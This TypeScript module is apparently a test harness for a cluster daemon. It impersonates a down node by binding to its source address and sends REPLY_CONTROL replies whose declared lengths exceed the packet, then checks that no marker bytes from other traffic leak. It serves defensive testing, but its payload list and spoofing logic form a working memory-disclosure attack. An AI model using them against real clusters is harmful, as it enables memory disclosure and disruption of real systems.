import { createServer, Socket, type Server } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { KEEPALIVE_VERSION_4_17, Operation } from '../../legacy/protocol/constants.ts';
import { Control } from '../../legacy/protocol/controls.ts';
import type { LocalClusterNode } from '../../scripts/local-cluster/index.ts';
import type { AttackDetail } from './attacks.ts';
import { LegacyWire, writeLegacyHeader } from './legacy-wire.ts';
import { MARKER_NEEDLE, startMarkerTraffic, type MarkerTraffic } from './marker.ts';
import { measureAttack, summaryLine, type Measurement } from './measure.ts';
import { daemonPid } from './processes.ts';
import { rssAfterLimitKiB } from './scenarios.ts';
import { startProbe } from './well-behaved-probe.ts';

/**
 * The memory-disclosure attack: something posing as a node answers a
 * forwarded control with a REPLY_CONTROL whose lengths exceed its packet.
 *
 * Node identity is the source address (behaviour.md §2), so a raw TCP peer
 * bound to a *down* node's 127.0.x.y address is that node: it listens on the
 * node's port (the victim daemon's outgoing link lands there) and connects
 * to the victim from that address (the link it writes on), sending
 * keepalives. A victim client then sends controls to that node; another
 * client meanwhile sends messages carrying a marker through the same daemon.
 * The victim must get error replies and never a byte of the marker.
 */

/** REPLY_CONTROL lies the fake node tells, in rotation. */
export const LYING_REPLIES: ReadonlyArray<{ name: string; datalen: number; errorlen: number }> = [
  { name: 'data 2000 B past a 48 B packet', datalen: 2000, errorlen: 0 },
  { name: 'error text 3000 B past the packet', datalen: 4, errorlen: 3000 },
  { name: 'data 60000 B past the packet', datalen: 60_000, errorlen: 0 },
  { name: 'data 256 MiB', datalen: 256 * 1024 * 1024, errorlen: 0 },
  { name: 'data ~2^32', datalen: 0xfffffff0, errorlen: 0 },
  { name: 'data + error overflow u32', datalen: 0x80000000, errorlen: 0x80000008 },
];

/** Distinctive srvid on the victim's controls: the fake node lies only to those. */
const VICTIM_SRVID = 0x5ec2e7_0000_0001n;

export class FakeNode {
  private server: Server | undefined;
  private out: Socket | undefined;
  private readonly inbound = new Set<Socket>();
  private keepalive: NodeJS.Timeout | undefined;
  private reconnect: NodeJS.Timeout | undefined;
  private stopped = false;
  private lie = 0;
  /** Forwarded victim controls answered with a lie. */
  liesTold = 0;
  /** Times our outgoing link was cut by the victim (it took us for a failed node). */
  linkDrops = 0;

  constructor(
    readonly address: string,
    readonly pnn: number,
    readonly victim: { address: string; pnn: number },
    readonly port = 4379,
  ) {}

  async start(): Promise<void> {
    this.server = createServer((s) => this.accept(s));
    await new Promise<void>((resolve, reject) => {
      this.server!.once('error', reject);
      this.server!.listen({ host: this.address, port: this.port, exclusive: true }, () => resolve());
    });
    this.connectOut();
    this.keepalive = setInterval(() => this.sendKeepalive(), 200);
  }

  /** True while both links to the victim exist. */
  get linked(): boolean {
    return this.out !== undefined && !this.out.destroyed && [...this.inbound].some((s) => s.remoteAddress === this.victim.address);
  }

  private connectOut(): void {
    if (this.stopped) return;
    const s = new Socket();
    s.on('error', () => undefined);
    s.once('close', () => {
      if (this.out === s) this.out = undefined;
      if (!this.stopped) {
        this.linkDrops++;
        this.reconnect = setTimeout(() => this.connectOut(), 200);
      }
    });
    s.connect({ host: this.victim.address, port: this.port, localAddress: this.address }, () => {
      s.setNoDelay(true);
      this.out = s;
      this.sendKeepalive();
    });
  }

  private accept(s: Socket): void {
    this.inbound.add(s);
    s.on('error', () => undefined);
    s.once('close', () => this.inbound.delete(s));
    let pending: Buffer = Buffer.alloc(0);
    s.on('data', (chunk: Buffer) => {
      pending = pending.length ? Buffer.concat([pending, chunk]) : chunk;
      while (pending.length >= 4) {
        const len = pending.readUInt32LE(0);
        if (len < 32 || len > 1 << 20) {
          s.destroy();
          return;
        }
        if (pending.length < len) break;
        this.onPacket(pending.subarray(0, len));
        pending = Buffer.from(pending.subarray(len));
      }
    });
  }

  private onPacket(p: Buffer): void {
    if (p.readUInt32LE(16) !== Operation.REQ_CONTROL || p.length < 64) return;
    const reqid = p.readUInt32LE(28);
    const srcnode = p.readUInt32LE(24);
    const generation = p.readUInt32LE(12);
    if (p.readBigUInt64LE(40) === VICTIM_SRVID) {
      const lie = LYING_REPLIES[this.lie++ % LYING_REPLIES.length];
      this.liesTold++;
      this.reply(generation, srcnode, reqid, 0, lie.datalen, lie.errorlen);
    } else {
      // Anything else (the victim's recovery daemon) gets an honest failure.
      this.reply(generation, srcnode, reqid, -1, 0, 0);
    }
  }

  /** A 48-byte REPLY_CONTROL declaring `datalen` + `errorlen` bytes it does not carry. */
  private reply(generation: number, destnode: number, reqid: number, status: number, datalen: number, errorlen: number): void {
    const b = Buffer.alloc(48);
    writeLegacyHeader(b, Operation.REPLY_CONTROL, destnode, reqid, this.pnn, generation);
    b.writeInt32LE(status, 32);
    b.writeUInt32LE(datalen >>> 0, 36);
    b.writeUInt32LE(errorlen >>> 0, 40);
    this.out?.write(b);
  }

  private sendKeepalive(): void {
    if (!this.out) return;
    const b = Buffer.alloc(40);
    writeLegacyHeader(b, Operation.REQ_KEEPALIVE, this.victim.pnn, 0, this.pnn, 1);
    b.writeUInt32LE(KEEPALIVE_VERSION_4_17, 32);
    b.writeUInt32LE(0, 36); // uptime 0: never "older" than the victim
    this.out.write(b);
  }

  async stop(): Promise<void> {
    this.stopped = true;
    clearInterval(this.keepalive);
    clearTimeout(this.reconnect);
    this.out?.destroy();
    for (const s of this.inbound) s.destroy();
    if (this.server) await new Promise<void>((r) => this.server!.close(() => r()));
  }
}

/** What the victim got back for one lie. */
export interface VictimReply {
  lie: string;
  /** 'error': a REPLY_CONTROL with status != 0 and consistent lengths. */
  outcome: 'error' | 'success' | 'inconsistent' | 'timeout' | 'closed';
  length?: number;
  status?: number;
}

export interface DisclosureResult {
  replies: VictimReply[];
  /** Marker occurrences in everything the victim received (must be 0). */
  markerHits: number;
  /** Marker messages other clients sent through the daemon meanwhile. */
  markerMessages: number;
  victimBytes: number;
  liesTold: number;
}


/**
 * Runs the attack against `victimSocket` (the node at `victim`), the fake
 * node taking `fakeAddress` / `fakePnn` (a node that is down). Rounds:
 * each round the victim sends one control per lie, sequentially.
 */
export async function disclosureAttack(opts: {
  victimSocket: string;
  victim: { address: string; pnn: number };
  fakeAddress: string;
  fakePnn: number;
  /** Another node the marker messages are also sent to (copies through other code paths). */
  otherPnn?: number;
  rounds?: number;
  replyTimeoutMs?: number;
  linkTimeoutMs?: number;
}): Promise<DisclosureResult> {
  const fake = new FakeNode(opts.fakeAddress, opts.fakePnn, opts.victim);
  await fake.start();
  const victim = await LegacyWire.open(opts.victimSocket, { needle: MARKER_NEEDLE, keepBytes: 4096 });
  let markers: MarkerTraffic | undefined;
  let markerMessages = 0;
  try {
    // The daemon must take the fake for the node, so forwarded controls reach it: at the start, and again after
    // each lie (a daemon may rightly drop a peer that lied; the fake then reconnects).
    const linked = () => waitUntil(async () => {
      // The fake answers other controls with status -1 and no text; a disconnected node's answer has text.
      const r = await victim.control(Control.GET_PNN, { destnode: opts.fakePnn, timeoutMs: 2000 }).catch(() => undefined);
      return r !== undefined && r.errorlen === 0;
    }, opts.linkTimeoutMs ?? 20_000, 'the victim daemon to take the fake for node ' + opts.fakePnn);
    await linked();
    markers = await startMarkerTraffic(opts.victimSocket, { otherPnn: opts.otherPnn });

    const replies: VictimReply[] = [];
    for (let round = 0; round < (opts.rounds ?? 5); round++) {
      for (const lie of LYING_REPLIES) {
        if (victim.closed) {
          replies.push({ lie: lie.name, outcome: 'closed' });
          continue;
        }
        await linked();
        const r = await victim.control(Control.GET_PNN, {
          destnode: opts.fakePnn, srvid: VICTIM_SRVID, timeoutMs: opts.replyTimeoutMs ?? 5000,
        }).catch((err: Error) => err);
        if (r instanceof Error) {
          replies.push({ lie: lie.name, outcome: victim.closed ? 'closed' : 'timeout' });
          continue;
        }
        const consistent = r.datalen !== undefined && 44 + r.datalen + (r.errorlen ?? 0) <= r.length;
        replies.push({
          lie: lie.name, length: r.length, status: r.status,
          outcome: !consistent ? 'inconsistent' : r.status === 0 ? 'success' : 'error',
        });
      }
    }
    markerMessages = await markers.stop();
    return { replies, markerHits: victim.needleHits, markerMessages, victimBytes: victim.bytesIn, liesTold: fake.liesTold };
  } finally {
    await markers?.stop();
    await victim.close();
    await fake.stop();
  }
}

async function waitUntil(cond: () => Promise<boolean>, ms: number, what: string): Promise<void> {
  const deadline = Date.now() + ms;
  while (!(await cond())) {
    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`);
    await sleep(200);
  }
}

/** The disclosure result as one detail record (bench notes). */
export function disclosureDetail(r: DisclosureResult): AttackDetail {
  const by = (o: VictimReply['outcome']) => r.replies.filter((x) => x.outcome === o).length;
  return {
    lies: r.liesTold, errorReplies: by('error'), successReplies: by('success'), inconsistent: by('inconsistent'),
    timeouts: by('timeout'), closed: by('closed'), markerHits: r.markerHits, markerMessages: r.markerMessages,
    victimKiB: Math.round(r.victimBytes / 1024),
  };
}

/** What the disclosure run needs of a cluster: node 2 is taken down for the fake and started again afterwards. */
export interface DisclosureCluster {
  nodes: ReadonlyArray<{ pnn: number; address: string; socketPath: string; base: string }>;
  killNode(pnn: number): Promise<void>;
  startNode(pnn: number): Promise<void>;
}

export const DISCLOSURE_ATTACK_NAME = 'fake node: REPLY_CONTROL lengths past the packet (marker test)';

/** Node 0 attacked by a fake node 2 (2 rounds of every lie), measured; node 2 is restarted afterwards. */
export async function measureDisclosure(c: DisclosureCluster, daemon: string): Promise<Measurement<DisclosureResult>> {
  const pid = await daemonPid(c.nodes[0] as LocalClusterNode);
  await c.killNode(2);
  try {
    const m = await measureAttack({
      attack: DISCLOSURE_ATTACK_NAME, daemon, pid,
      startProbe: () => startProbe({ kind: 'legacy', socketPath: c.nodes[0].socketPath }),
      run: () => disclosureAttack({
        victimSocket: c.nodes[0].socketPath, victim: { address: c.nodes[0].address, pnn: 0 },
        fakeAddress: c.nodes[2].address, fakePnn: 2, otherPnn: 1, rounds: DISCLOSURE_ROUNDS,
      }),
      detail: disclosureDetail,
      rssLimitKiB: (before) => rssAfterLimitKiB(before),
      settleMs: 10_000,
    });
    // eslint-disable-next-line no-console
    console.info(summaryLine(m));
    return m;
  } finally {
    await c.startNode(2).catch(() => undefined);
  }
}

export const DISCLOSURE_ROUNDS = 2;
